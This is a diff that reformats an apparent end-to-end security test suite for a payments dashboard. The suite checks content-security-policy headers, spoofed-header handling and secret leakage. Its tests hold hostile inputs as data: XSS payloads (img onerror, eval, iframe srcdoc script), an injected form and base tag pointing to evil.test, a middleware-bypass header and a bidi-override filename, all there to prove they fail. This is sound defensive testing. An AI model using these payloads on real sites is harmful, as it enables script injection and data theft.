@@ -4,8 +4,59 @@ import { expect, test } from './story.ts';
 import { processes } from './processes.ts';
 import { BASE_URL } from './surroundings.ts';
 
-const PAGES = ['/', '/wallets', '/wallets/account', '/wallets/new', '/wallets/4410270001', '/search?q=1.234', '/payouts', '/payouts/new', '/transfers', '/transfers/new', '/recipients', '/money-in', '/money-in/failed', '/reports/day-close', '/receipts', '/receipts/archives', '/receipts/archives/new', '/payouts/export', '/reports/withdrawals?from=2026-11-01&to=2026-11-30', '/reports/withdrawals/export', '/reports/reconciliation', '/cards/payments', '/cards/authorizations', '/cards/tools', '/cards/tools/pos?bin=450803&amount=1000', '/cards/tools/links', '/cards/tools/connection', '/cards/tools/hash-keys', '/cards/recurring', '/cards/saved?customer=900719', '/cards/payments/new', '/cards/links', '/reports/transactions?from=2026-11-01&to=2026-11-30', '/reports/transactions/export', '/reports/exports', '/webhooks', '/audit', '/settings'];
-const MISSING = ['/nowhere', '/money-in/1', '/money-in/failed/00000000-0000-4000-8000-000000000000', '/payouts/00000000-0000-4000-8000-000000000000', '/transfers/00000000-0000-4000-8000-000000000000', '/recipients/00000000-0000-4000-8000-000000000000', '/receipts/00000000-0000-4000-8000-000000000000', '/cards/payments/00000000-0000-4000-8000-000000000000', '/cards/recurring/00000000-0000-4000-8000-000000000000', '/receipts/archives/00000000-0000-4000-8000-000000000000', '/wallets/1'];
+const PAGES = [
+  '/',
+  '/wallets',
+  '/wallets/account',
+  '/wallets/new',
+  '/wallets/4410270001',
+  '/search?q=1.234',
+  '/payouts',
+  '/payouts/new',
+  '/transfers',
+  '/transfers/new',
+  '/recipients',
+  '/money-in',
+  '/money-in/failed',
+  '/reports/day-close',
+  '/receipts',
+  '/receipts/archives',
+  '/receipts/archives/new',
+  '/payouts/export',
+  '/reports/withdrawals?from=2026-11-01&to=2026-11-30',
+  '/reports/withdrawals/export',
+  '/reports/reconciliation',
+  '/cards/payments',
+  '/cards/authorizations',
+  '/cards/tools',
+  '/cards/tools/pos?bin=450803&amount=1000',
+  '/cards/tools/links',
+  '/cards/tools/connection',
+  '/cards/tools/hash-keys',
+  '/cards/recurring',
+  '/cards/saved?customer=900719',
+  '/cards/payments/new',
+  '/cards/links',
+  '/reports/transactions?from=2026-11-01&to=2026-11-30',
+  '/reports/transactions/export',
+  '/reports/exports',
+  '/webhooks',
+  '/audit',
+  '/settings',
+];
+const MISSING = [
+  '/nowhere',
+  '/money-in/1',
+  '/money-in/failed/00000000-0000-4000-8000-000000000000',
+  '/payouts/00000000-0000-4000-8000-000000000000',
+  '/transfers/00000000-0000-4000-8000-000000000000',
+  '/recipients/00000000-0000-4000-8000-000000000000',
+  '/receipts/00000000-0000-4000-8000-000000000000',
+  '/cards/payments/00000000-0000-4000-8000-000000000000',
+  '/cards/recurring/00000000-0000-4000-8000-000000000000',
+  '/receipts/archives/00000000-0000-4000-8000-000000000000',
+  '/wallets/1',
+];
 const EVERYWHERE = {
   'strict-transport-security': 'max-age=31536000; includeSubDomains',
   'x-content-type-options': 'nosniff',
@@ -18,7 +69,9 @@ const EVERYWHERE = {
 const POLICY =
   "default-src 'none'; script-src 'nonce-…' 'strict-dynamic'; style-src 'self' 'nonce-…'; img-src 'self' data:; font-src 'self'; connect-src 'self'; form-action 'self'; frame-src 'self'; frame-ancestors 'none'; base-uri 'none'; object-src 'none'; manifest-src 'self'; require-trusted-types-for 'script'; trusted-types default";
 
-test('every page, also one that is missing, has the whole policy with a nonce never seen before, on every script', async ({ sitDown }) => {
+test('every page, also one that is missing, has the whole policy with a nonce never seen before, on every script', async ({
+  sitDown,
+}) => {
   const { context } = await sitDown('selin');
   const seen = new Set<string>();
   for (const path of [...PAGES, ...PAGES, ...MISSING]) {
@@ -38,12 +91,25 @@ test('every page, also one that is missing, has the whole policy with a nonce ne
   }
 });
 
-test('the sign-in and its errors have the policy too; a nonce or policy sent by the browser is not taken over', async ({ openDesk }) => {
+test('the sign-in and its errors have the policy too; a nonce or policy sent by the browser is not taken over', async ({
+  openDesk,
+}) => {
   const { context } = await openDesk();
   const mine = 'AAAAAAAAAAAAAAAAAAAAAA==';
-  for (const path of ['/login', '/payouts', '/nowhere', '/_next/image?url=%2Ficon.svg&w=64&q=75', '/api/auth/csrf']) {
+  for (const path of [
+    '/login',
+    '/payouts',
+    '/nowhere',
+    '/_next/image?url=%2Ficon.svg&w=64&q=75',
+    '/api/auth/csrf',
+  ]) {
     const answer = await context.request.get(path, {
-      headers: { 'x-nonce': mine, 'content-security-policy': `script-src 'nonce-${mine}'`, 'x-middleware-subrequest': 'proxy:proxy:proxy:proxy:proxy', 'x-forwarded-host': 'evil.test' },
+      headers: {
+        'x-nonce': mine,
+        'content-security-policy': `script-src 'nonce-${mine}'`,
+        'x-middleware-subrequest': 'proxy:proxy:proxy:proxy:proxy',
+        'x-forwarded-host': 'evil.test',
+      },
     });
     expect(answer.headers(), path).toMatchObject(EVERYWHERE);
     expect(answer.headers()['content-security-policy'], path).toContain("default-src 'none'");
@@ -52,26 +118,49 @@ test('the sign-in and its errors have the policy too; a nonce or policy sent by 
     expect(text, path).not.toContain(mine);
     expect(text, path).not.toContain('evil.test');
   }
-  expect((await context.request.get('/_next/image?url=%2Ficon.svg&w=64&q=75')).status(), 'no image optimiser').toBe(404);
+  expect(
+    (await context.request.get('/_next/image?url=%2Ficon.svg&w=64&q=75')).status(),
+    'no image optimiser',
+  ).toBe(404);
 });
 
-test('what is answered before any page is asked, and what fails, has the headers of every answer and tells nothing', async ({ sitDown }) => {
+test('what is answered before any page is asked, and what fails, has the headers of every answer and tells nothing', async ({
+  sitDown,
+}) => {
   test.setTimeout(120_000);
   const { context } = await sitDown('selin');
   const cookie = `sid=${(await context.cookies()).find(({ name }) => name === 'sid')!.value}`;
   const asked: [method: string, path: string, status: number][] = [
-    ['GET', '/payouts/', 308], ['GET', '//evil.test/x', 308], ['GET', '/login', 307], ['GET', '/%ff', 400], ['GET', '/payouts/%zz', 400], ['GET', '/payouts/%c0%af', 400], ['GET', '/wallets/%00', 400], ['GET', '/_next/static/none.js', 404], ['GET', '/_next/data/x/y.json', 404],
-    ['GET', '/favicon.ico', 200], ['GET', '/icon.svg', 200], ['PUT', '/api/sign-in', 405], ['OPTIONS', '/payouts', 400], ['TRACE', '/payouts', 400], ['POST', '/api/webhooks/x/wallet', 404],
+    ['GET', '/payouts/', 308],
+    ['GET', '//evil.test/x', 308],
+    ['GET', '/login', 307],
+    ['GET', '/%ff', 400],
+    ['GET', '/payouts/%zz', 400],
+    ['GET', '/payouts/%c0%af', 400],
+    ['GET', '/wallets/%00', 400],
+    ['GET', '/_next/static/none.js', 404],
+    ['GET', '/_next/data/x/y.json', 404],
+    ['GET', '/favicon.ico', 200],
+    ['GET', '/icon.svg', 200],
+    ['PUT', '/api/sign-in', 405],
+    ['OPTIONS', '/payouts', 400],
+    ['TRACE', '/payouts', 400],
+    ['POST', '/api/webhooks/x/wallet', 404],
   ];
   const check = async (method: string, path: string): Promise<number> => {
     const { status, headers, text } = await raw(method, path, cookie);
     expect(headers, `${method} ${path}`).toMatchObject(EVERYWHERE);
-    if (/text\/html/.test(headers['content-type'] ?? '')) expect(headers['content-security-policy'], `${method} ${path}`).toMatch(/script-src 'nonce-[A-Za-z0-9+/]{22}=='|default-src 'none'/);
+    if (/text\/html/.test(headers['content-type'] ?? ''))
+      expect(headers['content-security-policy'], `${method} ${path}`).toMatch(
+        /script-src 'nonce-[A-Za-z0-9+/]{22}=='|default-src 'none'/,
+      );
     expect(headers['x-powered-by'], `${method} ${path}`).toBeUndefined();
-    if (method !== 'TRACE') expect(text, `${method} ${path}`).not.toMatch(/\bat \S+ \(|node_modules|postgres|\.ts:/i);
+    if (method !== 'TRACE')
+      expect(text, `${method} ${path}`).not.toMatch(/\bat \S+ \(|node_modules|postgres|\.ts:/i);
     return status;
   };
-  for (const [method, path, status] of asked) expect([await check(method, path), status], `${method} ${path}`).toContain(status);
+  for (const [method, path, status] of asked)
+    expect([await check(method, path), status], `${method} ${path}`).toContain(status);
   await processes.stop('postgres');
   try {
     for (const path of [...PAGES, '/login', '/nowhere']) await check('GET', path);
@@ -79,25 +168,40 @@ test('what is answered before any page is asked, and what fails, has the headers
     expect(await check('GET', '/api/movements/00000000-0000-4000-8000-000000000000')).toBe(503);
   } finally {
     await processes.start('postgres');
-    await expect.poll(async () => (await fetch(`${BASE_URL}/api/health/ready`)).status, { timeout: 60_000 }).toBe(200);
+    await expect
+      .poll(async () => (await fetch(`${BASE_URL}/api/health/ready`)).status, { timeout: 60_000 })
+      .toBe(200);
   }
 });
 
 /** As it comes over the line: nothing is followed, and the address is sent as it is written. */
-async function raw(method: string, path: string, cookie: string): Promise<{ status: number; headers: Record<string, string>; text: string }> {
+async function raw(
+  method: string,
+  path: string,
+  cookie: string,
+): Promise<{ status: number; headers: Record<string, string>; text: string }> {
   const { hostname, port } = new URL(BASE_URL);
   return new Promise((resolve, reject) => {
     const asking = request({ hostname, port, method, path, headers: { cookie } }, (answer) => {
       let text = '';
       answer.on('data', (chunk: Buffer) => (text += chunk.toString()));
-      answer.on('end', () => resolve({ status: answer.statusCode!, headers: answer.headers as Record<string, string>, text }));
+      answer.on('end', () =>
+        resolve({
+          status: answer.statusCode!,
+          headers: answer.headers as Record<string, string>,
+          text,
+        }),
+      );
     });
     asking.on('error', reject);
     asking.end();
   });
 }
 
-test('text becomes neither markup nor code in a page, whoever writes it; and no second gate can be made', async ({ sitDown, pageProblems }) => {
+test('text becomes neither markup nor code in a page, whoever writes it; and no second gate can be made', async ({
+  sitDown,
+  pageProblems,
+}) => {
   const { page } = await sitDown('ayse');
   await page.goto('/payouts');
   await page.waitForLoadState('networkidle');
@@ -105,31 +209,52 @@ test('text becomes neither markup nor code in a page, whoever writes it; and no 
     // What a debugger runs at once is spared the policy; what runs in a turn of its own is the page's.
     await new Promise((done) => setTimeout(done));
     const tries: Record<string, () => unknown> = {
-      markup: () => (document.body.appendChild(document.createElement('div')).innerHTML = '<img src=x onerror="window.owned=1">'),
+      markup: () =>
+        (document.body.appendChild(document.createElement('div')).innerHTML =
+          '<img src=x onerror="window.owned=1">'),
       'markup after': () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
       'a document': () => document.write('<b>x</b>'),
-      'a script of another site': () => (document.createElement('script').src = 'https://evil.test/x.js'),
-      'a script of ours that is no chunk': () => (document.createElement('script').src = '/api/events'),
+      'a script of another site': () =>
+        (document.createElement('script').src = 'https://evil.test/x.js'),
+      'a script of ours that is no chunk': () =>
+        (document.createElement('script').src = '/api/events'),
       'a script as text': () => (document.createElement('script').textContent = 'window.owned=1'),
       // oxlint-disable-next-line no-eval -- what must not work
       code: () => eval('window.owned=1'),
       // oxlint-disable-next-line no-implied-eval -- what must not work
       'code in a timer': () => setTimeout('window.owned=1' as unknown as () => void, 0),
-      'a frame with markup': () => (document.createElement('iframe').srcdoc = '<script>parent.owned=1</script>'),
-      'another gate': () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
-      'the gate again': () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
+      'a frame with markup': () =>
+        (document.createElement('iframe').srcdoc = '<script>parent.owned=1</script>'),
+      'another gate': () =>
+        (
+          window as unknown as {
+            trustedTypes: { createPolicy(name: string, rules: object): unknown };
+          }
+        ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
+      'the gate again': () =>
+        (
+          window as unknown as {
+            trustedTypes: { createPolicy(name: string, rules: object): unknown };
+          }
+        ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
     };
-    return Object.fromEntries(Object.entries(tries).map(([name, attempt]) => {
-      try {
-        attempt();
-        return [name, 'done'];
-      } catch (error) {
-        return [name, (error as Error).name];
-      }
-    }));
+    return Object.fromEntries(
+      Object.entries(tries).map(([name, attempt]) => {
+        try {
+          attempt();
+          return [name, 'done'];
+        } catch (error) {
+          return [name, (error as Error).name];
+        }
+      }),
+    );
   });
-  expect(Object.entries(outcomes).filter(([, outcome]) => !['TypeError', 'EvalError'].includes(outcome))).toEqual([]);
-  expect(await page.evaluate(() => (window as unknown as { owned?: number }).owned ?? null)).toBeNull();
+  expect(
+    Object.entries(outcomes).filter(([, outcome]) => !['TypeError', 'EvalError'].includes(outcome)),
+  ).toEqual([]);
+  expect(
+    await page.evaluate(() => (window as unknown as { owned?: number }).owned ?? null),
+  ).toBeNull();
   // The violations were the point of this story.
   pageProblems.length = 0;
 });
@@ -152,7 +277,10 @@ test('machine addresses say nothing to a browser that should not ask', async ({ 
   }
 });
 
-test('what a stranger managed to write into a page does not run and reaches nobody', async ({ sitDown, pageProblems }) => {
+test('what a stranger managed to write into a page does not run and reaches nobody', async ({
+  sitDown,
+  pageProblems,
+}) => {
   const { page } = await sitDown('ayse');
   const asked: string[] = [];
   // What the policy stops never comes as far as this.
@@ -165,7 +293,10 @@ test('what a stranger managed to write into a page does not run and reaches nobo
     '<base href="https://evil.test/"><iframe src="https://evil.test/f"></iframe><link rel="stylesheet" href="https://evil.test/s.css"><form id="steal" action="https://evil.test/s" method="post"></form>';
   await page.route('**/payouts', async (route) => {
     const answer = await route.fetch();
-    await route.fulfill({ response: answer, body: (await answer.text()).replace('<body>', `<body>${injected}`) });
+    await route.fulfill({
+      response: answer,
+      body: (await answer.text()).replace('<body>', `<body>${injected}`),
+    });
   });
   await page.addInitScript(() => {
     const heard: string[] = [];
@@ -177,24 +308,53 @@ test('what a stranger managed to write into a page does not run and reaches nobo
     (document.getElementById('steal') as HTMLFormElement).submit();
     await fetch('https://evil.test/c').catch(() => undefined);
   });
-  const heard = () => page.evaluate(() => [...new Set((window as unknown as { heard: string[] }).heard)].sort());
-  await expect.poll(heard).toEqual(['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'style-src-elem']);
-  expect(await page.evaluate(() => ({ owned: (window as unknown as { owned?: string }).owned ?? null, base: document.baseURI }))).toEqual({ owned: null, base: `${BASE_URL}/payouts` });
+  const heard = () =>
+    page.evaluate(() => [...new Set((window as unknown as { heard: string[] }).heard)].sort());
+  await expect
+    .poll(heard)
+    .toEqual([
+      'base-uri',
+      'connect-src',
+      'form-action',
+      'frame-src',
+      'img-src',
+      'script-src-attr',
+      'script-src-elem',
+      'style-src-elem',
+    ]);
+  expect(
+    await page.evaluate(() => ({
+      owned: (window as unknown as { owned?: string }).owned ?? null,
+      base: document.baseURI,
+    })),
+  ).toEqual({ owned: null, base: `${BASE_URL}/payouts` });
   expect(asked).toEqual([]);
   // The violations, and a page that was drawn differently from what its script expects, were the point of this story.
   pageProblems.length = 0;
 });
 
-test('what was stored with hidden marks of direction before they were written out is drawn with them written out', async ({ sitDown }) => {
+test('what was stored with hidden marks of direction before they were written out is drawn with them written out', async ({
+  sitDown,
+}) => {
   const { page } = await sitDown('selin');
   const name = 'Ali \u202egnp.exe';
   try {
-    await rows(`INSERT INTO ledger_records (merchant_id, id, type_id, status_id, direction, amount_minor, fee_minor, currency, to_wallet, sender_name, description, created_at, completed_at, raw)
-      VALUES ((SELECT merchant_id FROM people WHERE email = 'selin@demo.test'), 'turned-around', 1004, 20, 'in', 12345, 0, 'TRY', '4410270001', $1, $1, now(), now(), $2)`, [name, JSON.stringify({ [name]: name })]);
-    for (const path of ['/money-in', '/money-in/turned-around', '/reports/transactions', '/reports/transactions/turned-around']) {
+    await rows(
+      `INSERT INTO ledger_records (merchant_id, id, type_id, status_id, direction, amount_minor, fee_minor, currency, to_wallet, sender_name, description, created_at, completed_at, raw)
+      VALUES ((SELECT merchant_id FROM people WHERE email = 'selin@demo.test'), 'turned-around', 1004, 20, 'in', 12345, 0, 'TRY', '4410270001', $1, $1, now(), now(), $2)`,
+      [name, JSON.stringify({ [name]: name })],
+    );
+    for (const path of [
+      '/money-in',
+      '/money-in/turned-around',
+      '/reports/transactions',
+      '/reports/transactions/turned-around',
+    ]) {
       await page.goto(path);
       await expect(page.getByText('Ali [U+202E]gnp.exe').first(), path).toBeAttached();
-      expect(await page.locator('body').innerText(), path).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
+      expect(await page.locator('body').innerText(), path).not.toMatch(
+        /[\u202a-\u202e\u2066-\u2069]/,
+      );
       expect(await page.title(), path).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
     }
   } finally {
@@ -202,15 +362,28 @@ test('what was stored with hidden marks of direction before they were written ou
   }
 });
 
-test('what the browser gets names no secret of a provider and no session of ours', async ({ sitDown }) => {
+test('what the browser gets names no secret of a provider and no session of ours', async ({
+  sitDown,
+}) => {
   const { page, context } = await sitDown('selin');
   const bodies: Promise<string>[] = [];
   page.on('response', (response) => {
-    if (response.url().startsWith(BASE_URL) && !response.url().includes('/api/events')) bodies.push(response.text().catch(() => ''));
+    if (response.url().startsWith(BASE_URL) && !response.url().includes('/api/events'))
+      bodies.push(response.text().catch(() => ''));
   });
   for (const path of ['/', '/payouts', '/settings']) await page.goto(path);
   const cookie = (await context.cookies()).find(({ name }) => name === 'sid')!.value;
   const text = (await Promise.all(bodies)).join('\n');
   expect(text.length).toBeGreaterThan(100_000);
-  for (const secret of [cookie, 'client_secret', 'app_secret', 'WALLET_CLIENT', 'CARD_APP', 'AUTH_SECRET', 'postgres://', 'postgresql://']) expect(text).not.toContain(secret);
+  for (const secret of [
+    cookie,
+    'client_secret',
+    'app_secret',
+    'WALLET_CLIENT',
+    'CARD_APP',
+    'AUTH_SECRET',
+    'postgres://',
+    'postgresql://',
+  ])
+    expect(text).not.toContain(secret);
 });
